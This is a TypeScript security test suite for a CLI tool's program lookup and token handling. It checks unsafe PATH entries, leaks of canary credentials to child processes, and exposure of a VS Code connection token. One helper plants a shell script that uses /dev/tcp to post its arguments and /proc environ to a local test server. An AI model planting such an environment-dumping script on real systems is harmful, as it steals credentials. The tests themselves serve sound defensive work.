import assert from 'node:assert/strict';
import { once } from 'node:events';
import { chmod, mkdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { execFileSync } from 'node:child_process';
import { exists } from '../../src/base/files.ts';
import { findProgram, type ProgramName } from '../../src/base/programs.ts';
import { pageLeadingTo, startServer } from '../../scripts/lib/private-window.mjs';
import { beginCli, plant, type Stranger, stranger, wasRun, write } from '../support/stranger.ts';
import { tempFolder } from '../support/temp.ts';
import { attack } from './attack.ts';

const PROGRAMS = 'base/programs';

/** What a shell, a dropped file or a careless line in a profile makes of PATH; the project's folder is the current one. */
const PATHS: Readonly<Record<string, (who: Stranger) => string>> = {
  'PATH=.': () => '.',
  'PATH=:': () => ':',
  'a PATH that begins with an empty entry': ({ environment }) => `:${environment['PATH'] ?? ''}`,
  'a PATH that ends with an empty entry': () => '/nowhere:',
  'a relative folder in PATH': () => 'bin',
  'a relative folder above in PATH': () => '../project/bin',
  "the project's own folder in PATH": ({ project }) => join(project, 'bin'),
  'a folder in PATH that is a link into the project': ({ root }) => join(root, 'link'),
  'a folder in PATH that everybody can write to': ({ root }) => join(root, 'open'),
  'a folder in PATH whose program is a link into the project': ({ root }) => join(root, 'links'),
};

/** A project with programs of all names that are ever started, in all places that these search paths lead to. */
async function withPrograms(): Promise<Stranger> {
  const who = await stranger();
  const places = [who.project, join(who.project, 'bin'), join(who.root, 'open')];
  for (const folder of places) for (const name of NAMES) await plant(who, join(folder, name));
  await chmod(join(who.root, 'open'), 0o777);
  await symlink(join(who.project, 'bin'), join(who.root, 'link'));
  await mkdir(join(who.root, 'links'));
  for (const name of NAMES) await symlink(join(who.project, 'bin', name), join(who.root, 'links', name));
  return who;
}

/** A program of the user's own in a folder of the user's, which sends its arguments and variables to a server. */
async function reporting(who: Stranger, name: ProgramName) {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const folder = join(who.root, 'own');
  const send = `exec 3<>/dev/tcp/127.0.0.1/${port}; B="$(printf '%s\\n' "$@"; cat /proc/$$/environ | tr '\\0' '\\n')"`;
  const post = `printf 'POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %s\\r\\n\\r\\n%s' "$(printf %s "$B" | wc -c)" "$B" >&3`;
  await plant(who, join(folder, name), `${send}\n${post}\ncat <&3 >/dev/null`);
  const report = (async () => {
    const [request, response] = (await once(server, 'request')) as [IncomingMessage, ServerResponse];
    const said = await text(request);
    response.end();
    server.close();
    server.closeAllConnections();
    return said;
  })();
  return { folder, report };
}

/** Credentials and the like in the user's environment, which no child of the program has a use for. */
const SECRETS = {
  KAGGLE_USERNAME: 'ada',
  KAGGLE_KEY: 'canary-0123456789abcdef',
  KAGGLE_API_TOKEN: 'KGAT_canary',
  AWS_SECRET_ACCESS_KEY: 'canary',
  GITHUB_TOKEN: 'canary',
  NODE_OPTIONS: '--title=canary',
  LD_LIBRARY_PATH: '/canary',
};

/** What of the command line starts each program, with the variables that it takes. */
const STARTED_BY = {
  git: [['run', '.', '--dry-run'], {}],
  ssh: [['doctor', '.'], { DOCKER_HOST: 'ssh://gpu-box' }],
  'xdg-open': [['login', '--yes'], { DISPLAY: ':9' }],
} as const satisfies Partial<
  Record<ProgramName, readonly [readonly string[], Readonly<Record<string, string>>]>
>;
const NAMES = ['git', 'ssh', 'xdg-open'] as const;

/** Starts that in the project's folder, and ends it as soon as a program of the user's was started. @returns its report. */
async function startBy(
  name: (typeof NAMES)[number],
  who: Stranger,
  env: Readonly<Record<string, string>>,
  report: Promise<string>,
): Promise<string> {
  const [args, more] = STARTED_BY[name];
  const child = await beginCli(who, args, { cwd: who.project, env: { ...NO_KAGGLE, ...more, ...env } });
  const ended = once(child, 'close').then(() => assert.fail(`no ${name} was started`));
  try {
    return await Promise.race([report, ended]);
  } finally {
    child.kill('SIGKILL');
    await ended.catch(() => undefined);
  }
}

const NO_KAGGLE = { JULIA_KAGGLE_API_URL: 'http://127.0.0.1:9' };

describe('attacks by programs that are started', function () {
  this.timeout(60_000);

  for (const [way, pathOf] of Object.entries(PATHS))
    attack('programs', `git, ssh and xdg-open by ${way}`, PROGRAMS, async () => {
      const who = await withPrograms();
      const environment = { ...who.environment, PATH: pathOf(who) };
      for (const name of NAMES) {
        const { path = '', environment: passed } =
          findProgram(name, { environment, foreign: [who.project] }) ?? {};
        assert.ok(!path.startsWith(who.root), path);
        assert.ok(!/(^|:)($|:|[^/])/.test(passed?.['PATH'] ?? '/'), passed?.['PATH']);
      }
    });

  for (const name of NAMES)
    for (const entry of ['.', '', 'its own path'])
      attack(
        'programs',
        `${name} in the project by "${entry}" in PATH, at julia-kaggle`,
        PROGRAMS,
        async () => {
          const who = await withPrograms();
          const { folder, report } = await reporting(who, name);
          const PATH = [entry === 'its own path' ? who.project : entry, folder, '/usr/bin:/bin'].join(':');
          // The user's own is started in its place, though it comes later.
          await startBy(name, who, { PATH }, report);
          assert.equal(await wasRun(who), false);
        },
      );

  attack('programs', "a folder above the project's in the same work tree, in PATH", PROGRAMS, async () => {
    const who = await stranger({ 'sub/Project.toml': 'name = "X"\n' });
    await plant(who, join(who.project, 'tools', 'git'));
    const { folder, report } = await reporting(who, 'git');
    for (const name of ['Project.toml', 'Manifest.toml', 'JuliaKaggle.toml', 'src/Tides.jl'])
      await write(join(who.project, 'sub'), { [name]: await readFile(join(who.project, name), 'utf8') });
    const PATH = `${join(who.project, 'tools')}:${folder}:/usr/bin:/bin`;
    await startBy('git', { ...who, project: join(who.project, 'sub') }, { PATH }, report);
    assert.equal(await wasRun(who), false);
  });

  attack('programs', 'the search path that a program hands on to its own children', PROGRAMS, async () => {
    const who = await withPrograms();
    const { folder, report } = await reporting(who, 'git');
    const PATH = `.::bin:${who.project}/bin:${who.root}/open:${folder}:/usr/bin:/bin`;
    const said = await startBy('git', who, { PATH }, report);
    assert.match(said, new RegExp(`^PATH=${folder}:/usr/bin(:/bin)?$`, 'm'));
  });

  attack(
    'programs',
    'Windows: the current folder, relative drives, other folders of a drive, batch files',
    PROGRAMS,
    async () => {
      const root = await tempFolder({ 'System32/x': '' });
      const PATH = ['', '.', 'bin', 'C:bin', String.raw`\bin`, String.raw`\\server\share`, '/usr/bin'].join(
        ';',
      );
      const search = { environment: { Path: PATH, SystemRoot: root }, platform: 'win32' } as const;
      for (const name of NAMES) assert.equal(findProgram(name, search), undefined);
    },
  );

  for (const name of NAMES)
    attack('L1', `${name} reads Kaggle's credential and others in its environment`, PROGRAMS, async () => {
      const who = await stranger();
      const { folder, report } = await reporting(who, name);
      const env = { ...SECRETS, PATH: `${folder}:/usr/bin:/bin` };
      const said = await startBy(name, who, env, report);
      assert.match(said, new RegExp(`^HOME=${who.home}$`, 'm'));
      assert.doesNotMatch(said, /canary|KAGGLE/);
    });

  attack(
    'L5',
    "the token of the browser's VS Code in the arguments of its server",
    'scripts/lib/private-window',
    async () => {
      const folder = await tempFolder();
      const server = join(folder, 'server.mjs');
      await writeFile(
        server,
        "console.log('Extension host agent listening on 4711'); setInterval(() => {}, 1000);",
      );
      const { child, ended, address } = startServer(process.execPath, [server], { folder });
      const url = new URL((await address('/examples', new Promise(() => undefined))) ?? '');
      const token = url.searchParams.get('tkn') ?? '';
      const shown = execFileSync(
        'setpriv',
        ['--reuid=65534', '--regid=65534', '--clear-groups', 'cat', `/proc/${child.pid}/cmdline`],
        { encoding: 'utf8' },
      );
      process.kill(child.pid ?? 0, 'SIGKILL');
      await ended;
      assert.match(token, /^[0-9a-f]{32}$/);
      assert.match(shown, /--connection-token-file/);
      assert.ok(!shown.includes(token));
    },
  );

  attack(
    'L5',
    'another user reads the file of the token, which was there before, open to all',
    'scripts/lib/private-window',
    async () => {
      const folder = await tempFolder({ 'connection-token': 'mine' });
      await chmod(folder, 0o755);
      await chmod(join(folder, 'connection-token'), 0o666);
      const { ended } = startServer('true', [], { folder });
      await ended;
      const args = [
        '--reuid=65534',
        '--regid=65534',
        '--clear-groups',
        'cat',
        join(folder, 'connection-token'),
      ];
      assert.throws(() => execFileSync('setpriv', args, { stdio: 'pipe' }), /Permission denied/);
    },
  );

  attack(
    'L5',
    'the token is written through a link that lies in its place',
    'scripts/lib/private-window',
    async () => {
      const folder = await tempFolder({ victim: 'old' });
      await symlink('victim', join(folder, 'connection-token'));
      const { ended } = startServer('true', [], { folder });
      await ended;
      assert.equal(await readFile(join(folder, 'victim'), 'utf8'), 'old');
    },
  );

  attack(
    'L5',
    'the token in the arguments of what opens the browser',
    'scripts/lib/private-window',
    async () => {
      const folder = await tempFolder();
      const page = pageLeadingTo('http://127.0.0.1:4711/?tkn=0123456789abcdef&folder=%2Fx', folder);
      assert.doesNotMatch(page, /0123456789abcdef/);
      assert.match(page, /^file:\/\//);
      const file = new URL(page);
      assert.equal((await stat(file)).mode & 0o777, 0o600);
      assert.match(
        await readFile(file, 'utf8'),
        /url=http:\/\/127\.0\.0\.1:4711\/\?tkn=0123456789abcdef&amp;folder/,
      );
      assert.ok(await exists(folder));
    },
  );
});
